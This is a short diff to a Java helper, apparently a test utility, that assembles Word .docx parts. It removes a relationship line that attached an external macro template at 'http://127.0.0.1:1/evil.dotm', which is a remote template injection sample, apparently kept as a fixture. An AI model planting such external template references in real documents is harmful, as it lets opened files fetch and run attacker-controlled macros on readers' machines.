@@ -53,8 +53,7 @@ public final class WordFiles {
                 + " xmlns:wps=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\"><w:body>" + body
                 + "<w:sectPr/></w:body></w:document>"));
         parts.put("word/_rels/document.xml.rels", bytes(DECLARATION + relationships(
-                "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/>"
-                        + "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://127.0.0.1:1/evil.dotm\" TargetMode=\"External\"/>")));
+                "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/>")));
         parts.put("word/styles.xml", bytes(DECLARATION + "<w:styles " + W + ">"
                 + "<w:style w:type=\"paragraph\" w:styleId=\"1\"><w:name w:val=\"heading 1\"/><w:pPr><w:outlineLvl w:val=\"0\"/></w:pPr></w:style>"
                 + "<w:style w:type=\"paragraph\" w:styleId=\"a1\"><w:basedOn w:val=\"1\"/></w:style>"
